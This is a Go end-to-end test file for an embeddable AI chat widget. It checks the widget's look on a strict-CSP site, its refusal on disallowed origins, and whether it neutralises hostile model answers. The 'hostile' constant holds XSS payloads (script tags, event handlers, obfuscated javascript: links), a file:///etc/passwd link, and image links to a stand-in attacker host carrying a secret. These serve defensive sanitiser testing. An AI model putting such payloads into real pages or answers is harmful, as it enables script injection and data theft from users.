package e2e

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"ferry/adapters/openai/openaitest"
)

// A site is somebody else's, which embeds the widget.
type site struct {
	*httptest.Server
	hits atomic.Int64 // requests for anything but the page

	mu           sync.Mutex
	policy, page string
}

// newSite serves a page under a content security policy, or under none.
func newSite(t testing.TB, policy, page string) *site {
	t.Helper()
	s := &site{policy: policy, page: page}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			if r.URL.Path != "/favicon.ico" { // which browsers ask for by themselves
				s.hits.Add(1)
			}
			w.WriteHeader(http.StatusNoContent)
			return
		}
		s.mu.Lock()
		defer s.mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if s.policy != "" {
			w.Header().Set("Content-Security-Policy", s.policy)
		}
		fmt.Fprint(w, s.page)
	}))
	t.Cleanup(func() {
		s.CloseClientConnections()
		s.Close()
	})
	return s
}

// serves gives the site another page.
func (s *site) serves(policy, page string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.policy, s.page = policy, page
}

// strict is the policy of a site that lets its pages do next to nothing but talk to an assistant.
func strict(assistant string) string {
	return "default-src 'none'; script-src " + assistant + "; connect-src " + assistant + "; img-src data:; " +
		"style-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
}

// embedding is a page with the widget of an assistant. The attributes are those of its html element.
func embedding(assistant, attributes string) string {
	return `<!doctype html><html ` + attributes + `><head><meta charset="utf-8"><title>A shop</title>
<meta name="viewport" content="width=device-width, initial-scale=1"><meta name="color-scheme" content="light dark">
<link rel="icon" href="data:,"></head><body><main><h1>A shop</h1><p>` + strings.Repeat("Things to buy. ", 100) + `</p></main>
<script src="` + assistant + `/widget.js" async></script></body></html>`
}

func TestTheWidgetOnAStrictSite(t *testing.T) {
	s := webStage(t)
	home := newSite(t, strict(s.front.URL), embedding(s.front.URL, `lang="en"`))
	s.start("a", "WEB_ALLOWED_ORIGINS="+home.URL, anySessions)
	b := newTab(t, s.front.URL, home.URL)
	b.open(home.URL)
	b.until("there is a button", `seen(part("button"))`)
	looks := look[struct {
		Width, Height, Right, Bottom float64
		Fixed, PanelSeen, Distinct   bool
	}](b, `(({width, height, right, bottom}, style) => ({
		Width: width, Height: height, Right: innerWidth - right, Bottom: innerHeight - bottom,
		Fixed: [part("button"), part("root")].some((one) => getComputedStyle(one).position == "fixed"),
		PanelSeen: seen(part("panel")), Distinct: style.backgroundColor != "rgba(0, 0, 0, 0)" && style.borderRadius != "0px",
	}))(part("button").getBoundingClientRect(), getComputedStyle(part("button")))`)
	if !looks.Fixed || looks.Width < 44 || looks.Height < 44 || looks.Right > 60 || looks.Bottom > 60 || looks.PanelSeen || !looks.Distinct {
		t.Errorf("the button looks like %+v, want it round and fixed in a corner, and the panel closed", looks)
	}

	b.click("button")
	b.until("who opens it can write at once", `root.activeElement == part("input")`)
	b.writes("hello")
	said := whisper + " hello"
	b.sees(said, answerTo([]string{said}))
	b.press('\u001b')
	b.until("Escape closes it", `!seen(part("panel")) && root.activeElement == part("button")`)
	b.press('\r')
	b.until("the button opens it again", `seen(part("panel")) && root.activeElement == part("input")`)
	b.sees(said, answerTo([]string{said}))
}

func TestTheWidgetOnASiteThatIsNotAllowed(t *testing.T) {
	s := webStage(t)
	home := newSite(t, "", embedding(s.front.URL, `lang="en"`))
	s.start("a", anySessions)
	b := newTab(t, s.front.URL, home.URL)
	b.forgives(lostRequest, otherOrigin)
	b.open(home.URL)
	b.click("button")
	b.writes("hello")
	b.shows(message{Role: "user", Text: whisper + " hello", State: "waiting", Written: true})
	if n := len(s.model.Requests()); n > 0 {
		t.Errorf("the model was asked %d times for a site that may not", n)
	}
}

// hostile is what a model may be brought to say. TRACKER stands for a server of the attacker's.
const hostile = `<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2"><svg onload="window.pwned = 3"></svg>
<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>
<a href="javascript:window.pwned = 5" onclick="window.pwned = 6">raw</a>

[one](javascript:window.pwned=7) [two](JaVaScRiPt:window.pwned=8) [three](java&#115;cript:window.pwned=9)
[four](<java	script:window.pwned=10>) [five]( javascript:window.pwned=11) [six](data:text/html,<script>opener.pwned=12</script>)
[seven](vbscript:msgbox) <javascript:window.pwned=13> [eight](//TRACKER/relative) [nine](blob:http://TRACKER/1)
[ten](file:///etc/passwd) [eleven](http://user:password@TRACKER/x) [twelve](\x01javascript:window.pwned=14)

![picture](http://TRACKER/p.png?secret) [![picture](http://TRACKER/q.png)](http://TRACKER/) ![data](data:image/svg+xml,<svg onload="parent.pwned=15"/>)
![handler](x"onerror="window.pwned=16) http://TRACKER/bare www.TRACKER/bare

| a | b |
| - | - |
| <img src=x onerror="window.pwned=17"> | [x](javascript:window.pwned=18) |

` + "```<img src=x onerror=window.pwned=19>\n<img src=x onerror=window.pwned=20>\n```" + `

[` + "\u202emoc.elpmaxe\u202c" + `](http://TRACKER/bidi) ` + "\u202e\u2066\u2067\u200f backwards \x00" + `

[fine](https://www.example.org/) [mail](mailto:someone@example.org) [call](tel:+4912345)
the end`

func TestHostileAnswersInABrowser(t *testing.T) {
	s := webStage(t)
	tracker := newSite(t, "", "")
	// Without a policy, so that nothing but the widget stands between the answer and the page.
	home := newSite(t, "", embedding(s.front.URL, `lang="en"`))
	answers := map[string]string{
		"page":     strings.ReplaceAll(hostile, "TRACKER", strings.TrimPrefix(tracker.URL, "http://")) + " " + echo,
		"brackets": strings.Repeat("[", 50_000) + strings.Repeat("*", 50_000) + " " + echo,
		"mixture":  strings.Repeat("*_[`![](<>~~", 100_000/12) + "\n" + strings.Repeat("> - ", 10_000) + " " + echo,
		"table":    strings.Repeat("|", 20_000) + "\n" + strings.Repeat("|-", 20_000) + "\n" + strings.Repeat("|[", 20_000) + " " + echo,
	}
	s.model.Reply = func(r openaitest.Request) openaitest.Answer {
		said := s.asks.of(r).said
		_, which, _ := strings.Cut(said[len(said)-1], " ")
		if answer, ok := answers[which]; ok {
			return openaitest.Answer{Text: answer}
		}
		return openaitest.Answer{Text: answerTo(said)}
	}
	s.start("a", "WEB_ALLOWED_ORIGINS="+home.URL, anySessions)
	b := newTab(t, s.front.URL, home.URL)
	b.open(home.URL)
	b.click("button")
	for i, which := range []string{"page", "brackets", "mixture", "table"} {
		began := time.Now()
		b.writes(which)
		b.until("the answer has come: "+which, fmt.Sprintf(`parts("assistant", part("list"))[%d]?.dataset.id && part("text", parts("assistant", part("list"))[%d]).textContent.includes(%q)`, i, i, echo))
		t.Logf("%s: shown after %s", which, time.Since(began).Round(time.Millisecond))
	}
	b.writes("still there?")
	b.until("the page can still be used", fmt.Sprintf(`part("text", parts("assistant", part("list"))[4])?.innerText.includes(%q)`, "still there?"))

	links := look[[]struct{ Href, Text, Rel, Target string }](b, `[...part("log").querySelectorAll("a[href]")].map((a) => ({Href: a.href, Text: a.innerText, Rel: a.rel, Target: a.target}))`)
	fine := 0
	for _, link := range links {
		scheme, _, _ := strings.Cut(link.Href, ":")
		switch scheme {
		case "http", "https", "mailto", "tel":
		default:
			t.Errorf("there is a link to %s", link.Href)
		}
		if !strings.Contains(link.Rel, "noopener") {
			t.Errorf("the link to %s opens with rel=%q", link.Href, link.Rel)
		}
		if strings.ContainsAny(link.Text, "\u202a\u202b\u202d\u202e\u2066\u2067\u2068") {
			t.Errorf("the text of a link, %+q, runs backwards", link.Text)
		}
		switch link.Href {
		case "https://www.example.org/", "mailto:someone@example.org", "tel:+4912345":
			fine++
		}
	}
	if fine != 3 {
		t.Errorf("of the links that are fine %d are there, want 3: %+v", fine, links)
	}
	if found := look[[]string](b, `[...root.querySelectorAll("script, iframe, object, embed, img, image, use, form, video, audio, link, meta, base, [srcdoc], [onerror], [onload], [onclick]")].map((one) => one.outerHTML)`); len(found) > 0 {
		t.Errorf("an answer has made %q", found)
	}
	if pwned := look[any](b, `window.pwned ?? 0`); pwned != 0.0 {
		t.Errorf("an answer has run: %v", pwned)
	}
	if n := tracker.hits.Load(); n > 0 {
		t.Errorf("an answer has had the browser ask the attacker's server %d times", n)
	}
}
